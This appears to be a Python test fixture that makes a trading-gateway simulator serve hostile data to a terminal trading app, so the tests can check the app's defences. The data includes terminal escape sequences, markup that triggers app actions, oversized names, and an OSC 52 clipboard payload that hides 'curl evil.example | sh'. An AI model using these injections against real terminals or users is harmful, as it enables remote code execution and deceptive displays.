"""A hostile OpenD: the real simulator, told through its fault hooks to serve names, messages
and pushes chosen to hurt. The tests drive the real app against it."""

from __future__ import annotations

import base64
import math

from protocol.codes import security
from protocol.gateway.sim import SimThread
from protocol.proto import (
    Qot_Common_pb2,
    Qot_UpdateBasicQot_pb2,
    Qot_UpdateKL_pb2,
    Qot_UpdateOrderBook_pb2,
    Trd_Common_pb2,
    Trd_UpdateOrderFill_pb2,
)

HK_SIM = 3450309  # the simulator's HK paper account
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
NAMES = {  # code -> the name served for it
    "HK.00700": "\x1b]0;pwned\x07Tencent",
    "HK.09988": "\x1b[2JWIPE [/] [code=1001] [@click=app.quit]quit[/]",
    "HK.03690": "Meituan" + "\n".join(f"Qty 1 / Price 1.00 / Notional 100.00 HKD {n}" for n in range(40)),
    "HK.00005": CLIPBOARD + "HSBC",
    "HK.01810": "X" * 1_000_000,
}
MARKUP = "[/] refused [code=1001] [@click=app.quit]click me[/] [bold]"
# Byte strings that must never reach the terminal: the escapes above with their ESC intact.
FORBIDDEN = (b"\x1b]0;pwned", b"\x1b[2JWIPE", b"\x1b]52;c;")


def rename_all(thread: SimThread, names: dict[str, str] = NAMES) -> None:
    for code, name in names.items():
        thread.call(thread.sim.faults.rename, code, name)


def push(thread: SimThread, proto_id: int, response) -> int:
    return thread.call(thread.sim.faults.push, proto_id, response)


def _security(code: str) -> Qot_Common_pb2.Security:
    market, symbol = security(code)
    return Qot_Common_pb2.Security(market=market, code=symbol)


def quote(code: str, price: float, **fields) -> Qot_UpdateBasicQot_pb2.Response:
    resp = Qot_UpdateBasicQot_pb2.Response(retType=0)
    item = dict(security=_security(code), isSuspended=False, listTime="2000-01-01", priceSpread=0.01,
                updateTime="2026-11-20 10:00:00.000", highPrice=price, openPrice=price, lowPrice=price,
                curPrice=price, lastClosePrice=price, volume=1, turnover=price, turnoverRate=0, amplitude=0)
    item.update(fields)
    resp.s2c.basicQotList.add(**item)
    return resp


def quotes_for_codes(n: int, start: int = 100_000) -> Qot_UpdateBasicQot_pb2.Response:
    """One push carrying `n` codes nobody subscribed (HK.100000, HK.100001, ...)."""
    resp = Qot_UpdateBasicQot_pb2.Response(retType=0)
    for i in range(n):
        resp.s2c.basicQotList.add(
            security=Qot_Common_pb2.Security(market=1, code=str(start + i)), isSuspended=False, listTime="2000-01-01",
            priceSpread=0.01, updateTime="2026-11-20 10:00:00.000", highPrice=1, openPrice=1, lowPrice=1,
            curPrice=1, lastClosePrice=1, volume=1, turnover=1, turnoverRate=0, amplitude=0, name=f"N{i}")
    return resp


def kline(code: str, kl_type: int, price: float) -> Qot_UpdateKL_pb2.Response:
    resp = Qot_UpdateKL_pb2.Response(retType=0)
    resp.s2c.rehabType, resp.s2c.klType = 1, kl_type
    resp.s2c.security.CopyFrom(_security(code))
    resp.s2c.klList.add(time="2099-01-01 00:00:00", isBlank=False, highPrice=price, openPrice=price, lowPrice=price,
                        closePrice=price, lastClosePrice=price, volume=100, turnover=price)
    return resp


def book(code: str, volume: int) -> Qot_UpdateOrderBook_pb2.Response:
    resp = Qot_UpdateOrderBook_pb2.Response(retType=0)
    resp.s2c.security.CopyFrom(_security(code))
    for i in range(10):
        resp.s2c.orderBookBidList.add(price=100 - i, volume=volume, orederCount=1)
        resp.s2c.orderBookAskList.add(price=101 + i, volume=volume, orederCount=1)
    return resp


def fill(n: int, code: str = "00700") -> Trd_UpdateOrderFill_pb2.Response:
    resp = Trd_UpdateOrderFill_pb2.Response(retType=0)
    resp.s2c.header.CopyFrom(Trd_Common_pb2.TrdHeader(trdEnv=0, accID=HK_SIM, trdMarket=1))
    resp.s2c.orderFill.CopyFrom(Trd_Common_pb2.OrderFill(
        trdSide=1, fillID=9_000_000 + n, fillIDEx=f"hostile-fill-{n}", orderID=1, orderIDEx="hostile-order",
        code=code, name="Tencent", qty=100, price=600.5, createTime="2026-11-20 10:00:00", secMarket=1))
    return resp


NAN, INF = math.nan, math.inf
